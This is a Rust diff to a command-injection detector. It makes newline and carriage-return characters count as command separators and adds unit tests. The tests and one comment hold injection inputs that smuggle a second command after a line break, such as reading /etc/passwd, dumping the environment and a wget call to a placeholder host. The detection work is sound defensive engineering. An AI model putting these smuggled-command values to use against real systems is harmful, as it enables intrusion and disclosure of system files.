@@ -246,7 +246,9 @@ fn tokens(v: &[u8]) -> Vec<Tok> {
         };
         if let Some(op) = op {
             // Prose never starts with an operator: at the start it is as good as glued.
-            let glued = out.is_empty() || v.get(i + len).is_some_and(|c| !is_blank(*c));
+            // A line break is never glued: prose starts its lines with a word too.
+            let glued = out.is_empty()
+                || (!matches!(c, b'\n' | b'\r') && v.get(i + len).is_some_and(|c| !is_blank(*c)));
             let op = match op {
                 Op::Seq { .. } => Op::Seq { glued },
                 Op::Amp { .. } => Op::Amp { glued },
@@ -267,10 +269,22 @@ fn tokens(v: &[u8]) -> Vec<Tok> {
                 continue;
             }
             let c = v[i];
+            // (A line break ends a word: `1%0Acat /etc/passwd` is two commands.)
             if is_blank(c)
                 || matches!(
                     c,
-                    b';' | b'|' | b'&' | b'`' | b'(' | b')' | b'{' | b'}' | b',' | b'<' | b'>'
+                    b';' | b'|'
+                        | b'&'
+                        | b'`'
+                        | b'('
+                        | b')'
+                        | b'{'
+                        | b'}'
+                        | b','
+                        | b'<'
+                        | b'>'
+                        | b'\n'
+                        | b'\r'
                 )
             {
                 break;
@@ -375,6 +389,26 @@ mod tests {
             "date; see the notes below",
         ] {
             assert_eq!(detect(v.as_bytes()), None, "{v}");
+        }
+    }
+
+    /// A line break separates commands as `;` does (wapiti's `[VALUE][LF]env;`), and
+    /// like `; ` followed by prose, a line of prose is not one.
+    #[test]
+    fn line_breaks_separate_commands() {
+        for v in [
+            "1\nenv;",
+            "1\ncat /etc/passwd",
+            "x\r\nwget http://e.example/s",
+            "1\nid",
+        ] {
+            assert!(detect(v.as_bytes()).is_some(), "{v:?}");
+        }
+        for v in [
+            "Dear team,\nmore details follow next week",
+            "Line one\ntime flies when you are having fun",
+        ] {
+            assert_eq!(detect(v.as_bytes()), None, "{v:?}");
         }
     }
 }
